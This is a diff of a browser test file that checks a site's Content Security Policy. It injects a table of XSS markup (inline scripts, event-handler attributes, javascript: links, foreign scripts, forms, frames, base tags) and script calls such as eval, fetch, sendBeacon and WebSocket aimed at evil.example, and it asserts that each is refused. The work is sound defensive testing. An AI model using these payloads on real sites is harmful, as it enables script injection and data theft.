@@ -20,57 +20,107 @@ test('every page has the policy, and nothing in it opens a door', async ({ page 
   }
 });
 
-test('a script that gets into the page does not run, and nothing reaches another host', async ({ page }) => {
-  await page.goto('first/');
+/** Markup that gets into the page, and the rule that refuses it. */
+const markup: readonly (readonly [string, string])[] = [
+  ['<script>reached()</script>', 'script-src-elem'],
+  ['<script src="https://evil.example/x.js"></script>', 'script-src-elem'],
+  ['<script src="data:text/javascript,reached()"></script>', 'script-src-elem'],
+  ['<script type="module">import "https://evil.example/x.js"</script>', 'script-src-elem'],
+  ['<img src="data:image/png;base64,AA==" onerror="reached()">', 'script-src-attr'],
+  ['<details open ontoggle="reached()">x</details>', 'script-src-attr'],
+  ['<a href="javascript:reached()" data-press>x</a>', 'script-src-elem'],
+  ['<style>h1 { color: rgb(1, 2, 3) !important }</style>', 'style-src-elem'],
+  ['<link rel="stylesheet" href="https://evil.example/x.css">', 'style-src-elem'],
+  ['<base href="https://evil.example/">', 'base-uri'],
+  ['<form action="https://evil.example/"><button data-press>x</button></form>', 'form-action'],
+  ['<form action="javascript:reached()"><button data-press>x</button></form>', 'form-action'],
+  ['<img src="https://evil.example/x.png">', 'img-src'],
+  ['<video src="https://evil.example/x.mp4"></video>', 'media-src'],
+  ['<p style="background: url(https://evil.example/x.png)">x</p>', 'img-src'],
+  ['<object data="https://evil.example/"></object>', 'object-src'],
+  ['<embed src="https://evil.example/">', 'object-src'],
+  ['<iframe src="https://evil.example/"></iframe>', 'frame-src'],
+  ['<iframe src="data:text/html,x"></iframe>', 'frame-src'],
+];
+
+/** What a script could try if one ran, and the rule that refuses it. */
+const calls: readonly (readonly [string, () => unknown, string])[] = [
+  // biome-ignore-start lint/security/noGlobalEval: they are tried
+  ['eval', () => window.eval('reached()'), 'script-src'],
+  ['new Function', () => new Function('reached()')(), 'script-src'],
+  // biome-ignore-end lint/security/noGlobalEval: they are tried
+  ['a timer with text', () => setTimeout('reached()' as unknown as () => void), 'script-src'],
+  ['fetch', () => fetch('https://evil.example/'), 'connect-src'],
+  ['a beacon', () => navigator.sendBeacon('https://evil.example/', 'x'), 'connect-src'],
+  ['a socket', () => new WebSocket('wss://evil.example/'), 'connect-src'],
+  ['a stream', () => new EventSource('https://evil.example/'), 'connect-src'],
+  ['a font', () => new FontFace('x', 'url(https://evil.example/x.woff2)').load(), 'font-src'],
+  ['a worker of text', () => new Worker(URL.createObjectURL(new Blob(['']))), 'worker-src'],
+];
+
+test('what gets into the page is refused, each by its rule, and reaches no other host', async ({ page }) => {
   const asked: string[] = [];
-  page.on('response', (response) => asked.push(response.url()));
-  page.on('requestfailed', (request) => {
-    if (request.failure()?.errorText !== 'csp') asked.push(request.url());
+  await page.context().route(/evil\.example/, (route) => {
+    asked.push(route.request().url());
+    return route.fulfill({ body: '' });
   });
-  const outcome = await page.evaluate(async () => {
-    const global = window as unknown as { broken?: string[] };
-    global.broken = [];
-    const inline = document.createElement('script');
-    inline.textContent = "window.broken.push('inline script')";
-    document.body.append(inline);
-    const foreign = document.createElement('script');
-    foreign.src = 'https://evil.example/x.js';
-    document.body.append(foreign);
-    const image = document.createElement('img');
-    image.setAttribute('onerror', "window.broken.push('handler')");
-    image.src = 'data:image/png;base64,AA==';
-    document.body.append(image);
-    const link = document.createElement('a');
-    link.href = "javascript:window.broken.push('javascript address')";
-    document.body.append(link);
-    link.click();
-    const style = document.createElement('style');
-    style.textContent = 'h1 { color: rgb(1, 2, 3) }';
-    document.head.append(style);
-    const frame = document.createElement('iframe');
-    frame.src = 'https://evil.example/';
-    document.body.append(frame);
-    const base = document.createElement('base');
-    base.href = 'https://evil.example/';
-    document.head.append(base);
-    try {
-      await fetch('https://evil.example/steal');
-      global.broken.push('fetch');
-    } catch {
-      // As it should be.
-    }
-    await new Promise((resolve) => setTimeout(resolve, 300));
-    return {
-      broken: global.broken,
-      heading: getComputedStyle(document.querySelector('h1') as Element).color,
-      base: document.baseURI,
+  await page.goto('first/');
+  await page.evaluate(() => {
+    const global = window as unknown as { reached: () => void; ran: number; refusal: typeof refusal };
+    global.ran = 0;
+    global.reached = () => {
+      global.ran += 1;
     };
+    /** The rule by which the browser refuses what is tried. */
+    const refusal = (attempt: () => unknown) =>
+      new Promise<string>((done) => {
+        const late = setTimeout(() => done('nothing'), 3000);
+        const refused = ({ effectiveDirective }: SecurityPolicyViolationEvent) => {
+          clearTimeout(late);
+          done(effectiveDirective);
+        };
+        document.addEventListener('securitypolicyviolation', refused, { once: true });
+        // What a test evaluates may use eval; what a timer calls may not.
+        setTimeout(async () => {
+          try {
+            await attempt();
+          } catch {
+            // As it should be.
+          }
+        });
+      });
+    global.refusal = refusal;
   });
-  expect(outcome.broken).toEqual([]);
-  expect(outcome.heading).not.toBe('rgb(1, 2, 3)');
-  expect(outcome.base).not.toContain('evil');
-  const answered = asked.filter((url) => url.includes('evil'));
-  expect(answered).toEqual([]);
+  const own = page.url();
+  const refused: string[] = [];
+  for (const [html] of markup) {
+    const rule = await page.evaluate((text) => {
+      const { refusal } = window as unknown as { refusal: (attempt: () => void) => Promise<string> };
+      return refusal(() => {
+        const fragment = document.createRange().createContextualFragment(text);
+        const pressed = fragment.querySelector<HTMLElement>('[data-press]');
+        (/^<(style|link|base)/.test(text) ? document.head : document.body).append(fragment);
+        pressed?.click();
+      });
+    }, html);
+    refused.push(`${html}: ${rule}`);
+  }
+  for (const [name, call] of calls) {
+    const rule = await page.evaluate(`window.refusal(${call.toString()})`);
+    refused.push(`${name}: ${rule}`);
+  }
+  expect(refused).toEqual([
+    ...markup.map(([html, rule]) => `${html}: ${rule}`),
+    ...calls.map(([name, , rule]) => `${name}: ${rule}`),
+  ]);
+  expect(asked).toEqual([]);
+  expect(page.url()).toBe(own);
+  const after = await page.evaluate(() => ({
+    ran: (window as unknown as { ran: number }).ran,
+    base: document.baseURI,
+    heading: getComputedStyle(document.querySelector('h1') as Element).color,
+  }));
+  expect(after).toEqual({ ran: 0, base: own, heading: expect.not.stringContaining('rgb(1, 2, 3)') });
 });
 
 test('what a reader types is never read as HTML', async ({ page }) => {
